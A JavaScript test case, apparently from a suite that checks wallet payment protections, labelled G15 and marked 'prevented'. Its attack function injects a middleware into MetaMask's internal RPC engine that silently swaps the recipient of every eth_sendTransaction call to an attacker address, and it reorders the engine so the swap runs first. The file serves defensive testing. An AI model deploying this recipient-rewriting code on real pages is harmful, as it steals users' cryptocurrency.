// G15: a middleware pushed into the provider engine rewrites the recipient after every check of the provider methods.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G15',
  title: '_rpcEngine.push of a rewriting middleware',
  source: 'MetaMask provider internals',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    window.ethereum._rpcEngine.push((call, response, next) => {
      if (call.method === 'eth_sendTransaction') call.params[0].to = a.EVIL;
      next();
    });
    // The engine's own last middleware ends every call, so the rewriting one has to come before it.
    const list = Object.values(window.ethereum._rpcEngine).find((value) => Array.isArray(value));
    if (list) list.unshift(list.pop());
    const honest = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.GOOD, value: '0x6' }] };
    return window.ethereum.request(honest).catch((error) => error.code);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
